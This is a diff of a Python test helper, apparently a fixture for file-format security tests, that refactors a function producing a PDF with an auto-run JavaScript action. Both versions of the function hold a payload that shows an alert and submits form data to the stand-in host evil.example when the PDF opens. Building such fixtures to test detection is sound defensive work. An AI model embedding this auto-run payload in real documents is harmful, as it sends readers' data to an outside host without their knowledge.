@@ -117,23 +117,13 @@ def half(data: bytes) -> bytes:
 
 
 def pdf_with_javascript() -> bytes:
-    objects = [
-        b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>",
-        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
-        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>",
-        b"<< /Type /Action /S /JavaScript /JS (app.alert('pwned'); this.submitForm('https://evil.example/');) >>",
-    ]
-    out = bytearray(b"%PDF-1.4\n")
-    offsets = []
-    for number, obj in enumerate(objects, start=1):
-        offsets.append(len(out))
-        out += b"%d 0 obj\n" % number + obj + b"\nendobj\n"
-    xref = len(out)
-    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
-    for offset in offsets:
-        out += b"%010d 00000 n \n" % offset
-    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref)
-    return bytes(out)
+    return files.pdf_bytes(
+        [
+            b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>",
+            *files.PDF_PAGE_OBJECTS[1:],
+            b"<< /Type /Action /S /JavaScript /JS (app.alert('pwned'); this.submitForm('https://evil.example/');) >>",
+        ]
+    )
 
 
 def _zip(entries: dict[str, bytes]) -> bytes:
